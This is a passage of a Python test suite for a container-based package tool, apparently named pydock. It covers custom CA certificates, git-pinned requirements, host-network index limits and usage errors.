        openssl, address = shutil.which("openssl"), host_address()
        if not openssl or not address:
            self.skipTest("no openssl to make certificates with, or no address that containers reach")

        def run(*argv: str) -> None:
            subprocess.run([str(openssl), *argv], cwd=str(self.base), check=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

        run("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=test authority", "-keyout", "ca.key", "-out", "ca.pem")
        run("req", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=test", "-keyout", "host.key", "-out", "host.csr")
        (self.base / "ext").write_text("subjectAltName=IP:%s\n" % address, encoding="utf-8")
        run("x509", "-req", "-in", "host.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial", "-days", "2", "-extfile", "ext", "-out", "host.pem")
        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        tls.load_cert_chain(str(self.base / "host.pem"), str(self.base / "host.key"))
        index = self.index(tls=tls)
        self.fails("install", "ds", "alpha", "--index-url", index.url)
        ca = str(self.base / "ca.pem")
        (self.base / "ca.pem").write_bytes(b"# autorit\xe9\n" + (self.base / "ca.pem").read_bytes())
        self.environ["PIP_CONFIG_FILE"] = os.devnull  # a `cert` of this host's pip.conf would count first
        for variable in ("PIP_CERT", "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE"):
            environ = {key: value for key, value in self.environ.items() if key not in ("PIP_CERT", "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE")}
            self.environ = {**environ, variable: ca}
            self.ok("install", "ds", "alpha", "--index-url", index.url)
            if variable != "REQUESTS_CA_BUNDLE":
                self.ok("uninstall", "ds", "alpha")
        self.build("ds", {"SSL_CERT_FILE": ca}, "import alpha; print(alpha.version)")
        body = (self.base / "ca.pem").read_bytes().splitlines()[3]
        self.assertEqual(holds(self.tags(), body), [])


class RepositoryTest(PackageCase):
    """What comes from a repository, or by its address: one line, pinned, and left alone by update."""

    def repository(self) -> str:
        """The address of a git repository with the package mylib, for an installer."""
        address = host_address()
        if not shutil.which("git") or not address:
            self.skipTest("no git here, or no address that containers reach")
        url, commit = serve_git(self, address)
        self.pin = "@" + commit
        return url

    def test_each_way_to_name_it_becomes_one_line_that_stays(self) -> None:
        url = self.repository()
        pinned = "mylib @ %s%s\n" % (url, self.pin)
        wheel = make_wheel(self.base / "packages", "alpha")
        address = "http://%s/files/%s" % (self.index().host, wheel.name)
        hashed = "beta @ %s#sha256=" % address.replace("alpha", "beta") + hashlib.sha256(make_wheel(self.base / "packages", "beta").read_bytes()).hexdigest()
        (self.work / "r.txt").write_text("-e %s#egg=mylib\n%s\n" % (url, hashed), encoding="utf-8")
        self.ok("create", "ds", PYTHON, "--apt", "git", "-r", "r.txt", "six==1.16.0")
        self.assertEqual(self.requirements("ds"), hashed + "\n" + pinned + "six==1.16.0\n")
        self.ok("update", "ds")
        self.assertEqual(self.lines()[:2], [hashed, pinned.strip()])
        for line in ("-e %s#egg=mylib" % url, url, "mylib@" + url):
            with self.subTest(line=line):
                self.write(line + "\n%s\n" % address)
                self.ok("install", "ds", "six==1.16.0")
                self.assertEqual(self.lines(), [pinned.strip(), address, "six==1.16.0"])
        self.ok("uninstall", "ds", "mylib", "alpha")
        self.assertEqual(self.lines(), ["six==1.16.0"])
        self.assert_clean("ds")


class HostTest(PackageCase):
    """An index, and limits, of this host."""

    def test_limits_of_the_host_and_its_own_network(self) -> None:
        for version in ("1.0", "2.0"):
            make_wheel(self.base / "packages", "alpha", version)
        (self.work / "c.txt").write_text("alpha<2\n", encoding="utf-8")
        self.ok("create", "ds", PYTHON)
        index = Index("127.0.0.1", self.base / "packages")
        self.addCleanup(index.close)
        environ = {"PIP_INDEX_URL": index.url, "UV_CONSTRAINT": str(self.work / "c.txt")}
        before = self.state()
        self.environ["UV_HTTP_RETRIES"] = "0"
        result = self.fails("install", "ds", "alpha", environ=environ)
        self.assertIn("is at %s, this host's own" % index.host, result.err)
        self.assertIn("--network host", result.err)
        self.assertEqual(self.state(), before)
        result = self.run_pydock("install", "ds", "alpha", "--network", "host", environ=environ)
        self.assertEqual(self.requirements("ds"), "alpha==1.0\n", result)
        self.assertNotIn("this host's own", result.err)
        self.write("alpha==1.0\n# again\n")
        self.ok("build", "ds", "--network", "host", environ=environ)
        self.fails("update", "ds", "alpha==2.0", "--network", "host", environ=environ)


class SharedInstallTest(SharedCase, PackageCase):
    """Two installers' talk, and what `create -r` and `install` have in common."""

    @classmethod
    def prepare(cls, case: Case) -> None:
        case.ok("create", "ds", PYTHON)

    def test_nothing_named_is_a_usage_error(self) -> None:
        before = self.state()
        for argv in (["install", "ds"], ["uninstall", "ds"], ["install"], ["uninstall"], ["update"]):
            self.assertEqual(self.run_pydock(*argv).status, 2)
        self.fails("install", "nowhere", "six", says="'nowhere'")
        self.fails("uninstall", "nowhere", "six", says="'nowhere'")
        self.fails("update", "nowhere", says="'nowhere'")
        self.assertEqual(self.state(), before)

    def test_a_file_that_cannot_be_read_is_one_clear_line(self) -> None:
        before = self.state()
        (self.work / "bytes.txt").write_bytes(b"\xff\xfe\x00six")
        (self.work / "loop.txt").write_text("-r missing.txt\n", encoding="utf-8")
        for file in ("nothing.txt", "bytes.txt", "loop.txt", "."):
            with self.subTest(file=file):
                self.fails("install", "ds", "-r", file)
        self.assertEqual(self.state(), before)


if __name__ == "__main__":
    unittest.main()
